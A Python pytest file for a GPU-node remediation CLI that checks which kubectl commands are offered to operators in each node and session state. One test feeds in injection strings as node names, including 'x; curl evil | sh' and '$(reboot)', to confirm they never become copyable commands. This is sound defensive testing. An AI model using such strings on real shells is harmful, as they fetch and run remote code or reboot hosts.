"""What an operator can do about a node: only what changes something now, the same on the page of
the node, on that of its session and in `why`.
"""

import re
from itertools import takewhile
from typing import Any

import msgspec
import pytest

from remediator.kubectl.node_state import NodeLook
from remediator.kubectl.why import why_lines as why
from remediator.view.state import PageState
from rules.api.health import IncidentStatus
from rules.api.metadata import ObjectMeta
from rules.api.nodes import FreshNode, PauseView, QuarantineView
from rules.api.quarantine import (
    Cause,
    Condition,
    Mode,
    PauseScope,
    PauseSpec,
    ReleaseRequest,
    RepairAttempt,
)
from rules.policy.policy import Policy, Repair, RepairStep
from rules.repair.ladder import Step
from tests.support.remediator.page_fleet import (
    NOW,
    ago,
    health_of,
    node,
    node_html,
    node_of,
    session,
    sick,
    state,
)

HOLD = 'kubectl gpuward hold b --reason "..."'
UNHOLD = "kubectl gpuward unhold b"
REPAIRED = 'kubectl gpuward mark-replaced b --reason "..."'
RELEASE = 'kubectl gpuward release b --reason "..."'
REPAIR = "kubectl gpuward approve b"
TAKE = 'kubectl gpuward quarantine b --reason "..."'
BY_OPERATOR = Cause(source="Human", reason="Requested", message="fan noise", by="ann")
BY_OTHERS = Cause(source="External", incident="external-1", reason="SiteSays", severity="Fatal")
STEP = Condition(type="RepairProposed", status="True", reason="ResetGPU", message="proposed")
NONE_LEFT = Condition(type="Blocked", status="True", reason="NoStepLeft", message="none left")
TRIED = RepairAttempt(step="ResetGPU", adapter="NodeConditions", state="Failed")
ASKS = Policy(
    mode=Mode.ENFORCE,
    repair=Repair(
        mode="Ask",
        steps={
            step: RepairStep(adapter="NodeConditions")
            for step in (Step.RESET_GPU, Step.RESTART_NODE)
        },
    ),
)
PAUSE = PauseView(
    metadata=ObjectMeta(name="pause-1"), spec=PauseSpec(scope=PauseScope(all=True), by="ana")
)
HELD: dict[str, Any] = {"metadata": {"annotations": {"gpuward.io/hold": "parts"}}}


def incident(closes_on: str = "Reboot", *, active: bool = True, held: str = "") -> IncidentStatus:
    return IncidentStatus(
        id="i-1", reason="Row", active=active, closes_on=closes_on, held_since=held
    )


def world(
    one: IncidentStatus | None = None,
    *causes: Cause,
    asked_back: bool = False,
    held: bool = False,
    paused: bool = False,
    policy: Policy | None = None,
    **changes: Any,
) -> PageState:
    """Node `b` with an open session."""
    found = session("b-1", "b", **changes)
    spec = found.spec
    if causes:
        spec = type(spec)(node_name="b", causes=causes, level="Drain", hold=spec.hold)
    if asked_back:
        spec = type(spec)(
            node_name="b", causes=spec.causes, level="Drain", release=ReleaseRequest(by="ann")
        )
    found = QuarantineView(metadata=found.metadata, spec=spec, status=found.status)
    healths = [health_of("b", incidents=(one,))] if one else []
    on = sick("b", **HELD) if held else sick("b")
    return state([on], [found], healths, [PAUSE] if paused else [], policy=policy)


@pytest.mark.parametrize(
    ("of", "commands"),
    [
        pytest.param(world(incident()), [HOLD, RELEASE], id="closes on what the agent sees"),
        pytest.param(world(incident("Human")), [HOLD, REPAIRED, RELEASE], id="by an operator"),
        pytest.param(
            world(incident("State(x, 3 of 5)", held=ago(60))), [HOLD, REPAIRED, RELEASE],
            id="kept open since it came back too often",
        ),
        pytest.param(world(None), [HOLD, REPAIRED, RELEASE], id="nobody knows what it closes on"),
        pytest.param(world(incident("Human", active=False)), [HOLD, RELEASE], id="it has closed"),
        pytest.param(world(None, BY_OPERATOR), [HOLD, RELEASE], id="an operator asked for it"),
        pytest.param(world(None, BY_OTHERS), [HOLD, RELEASE], id="others report it"),
        pytest.param(world(incident(), hold=True), [UNHOLD, RELEASE], id="held"),
        pytest.param(world(incident(), held=True), [UNHOLD, RELEASE], id="held on the node"),
        pytest.param(world(incident(), mode="Shadow"), [RELEASE], id="nothing is touched"),
        pytest.param(
            world(incident(), conditions=(STEP,)), [REPAIR, HOLD, RELEASE], id="a step is proposed"
        ),
        pytest.param(
            # ResetGPU was asked for in this session, and the policy has no adapter for the rest.
            world(incident(), conditions=(NONE_LEFT,), repair=(TRIED,), policy=ASKS),
            [f"{REPAIR} --step RestartNode", HOLD, RELEASE], id="attempts of before are used up",
        ),
        pytest.param(world(incident("Human"), asked_back=True), [], id="returned already"),
        pytest.param(
            world(incident(), paused=True), [HOLD, RELEASE, "kubectl gpuward resume pause-1"],
            id="paused",
        ),
    ],
)  # fmt: skip
def test_only_what_changes_something_is_offered(of: PageState, commands: list[str]) -> None:
    assert [act.command for act in node_of(of, "b").acts] == commands
    html = node_html(of, "b")
    asked = ("hold", "unhold", "release", "mark-replaced", "approve", "resume", "quarantine")
    offered = [one for one in asked if f"gpuward {one} " in html]
    assert sorted(offered) == sorted(one.split()[2] for one in commands)
    snapshot = of.snapshot
    on = snapshot.nodes["b"]
    look = NodeLook(
        name="b",
        now=NOW,
        node=msgspec.convert(msgspec.to_builtins(on), FreshNode),
        health=snapshot.healths.get("b"),
        sessions=tuple(snapshot.quarantines.values()),
        pauses=tuple(snapshot.pauses.values()),
        policy=snapshot.policy,
    )
    text = "\n".join(why(look))
    below = text.partition("\nactions  ")[2].splitlines()
    offers = [*below[:1], *takewhile(lambda line: line.startswith(" "), below[1:])]
    assert [line.strip().rsplit("   ", 1)[0].strip() for line in offers] == commands


@pytest.mark.parametrize(
    ("of", "commands"),
    [
        pytest.param(state([node("b")]), [TAKE], id="in service"),
        pytest.param(
            state([node("b", labels={"gpuward.io/opt-out": "true"})]),
            ["kubectl label node b gpuward.io/opt-out-"], id="opted out: a session would wait",
        ),
        pytest.param(
            state([node("b")], pauses=[PAUSE]), [TAKE, "kubectl gpuward resume pause-1"],
            id="paused",
        ),
        pytest.param(state([node("b")], policy=Policy()), [], id="nothing is touched in Shadow"),
    ],
)  # fmt: skip
def test_of_a_node_in_service_only_what_works_is_offered(
    of: PageState, commands: list[str]
) -> None:
    assert [act.command for act in node_of(of, "b").acts] == commands


@pytest.mark.parametrize("bad", ["x; curl evil | sh", "$(reboot)", "../x", "-o", ""])
def test_of_what_no_node_can_be_called_there_is_nothing_to_copy(bad: str) -> None:
    """A session can name any node, and a click copies the command to a shell."""
    there = session("b-1", bad, "NodeGone")
    output = node_html(state([], [there]), bad)
    assert f"gpuward why {bad}" not in output
    assert "code class=copy" not in output.replace('"', "")


@pytest.mark.parametrize("phase", ["Released", "NodeGone"])
def test_an_ended_session_offers_what_can_be_done_about_its_node_now(phase: str) -> None:
    ended = session("b-1", "b", phase)
    assert [act.command for act in node_of(state([node("b")], [ended]), "b").acts] == [TAKE]
    again = state([sick("b")], [ended, session("b-2", "b")], [health_of("b", incidents=())])
    assert [act.command for act in node_of(again, "b").acts] == [HOLD, RELEASE]
    gone = state([], [ended])
    assert node_of(gone, "b").acts == ()
    offered = set(re.findall(r"kubectl gpuward (\w+) b\b", node_html(gone, "b")))
    assert offered == {"why"}
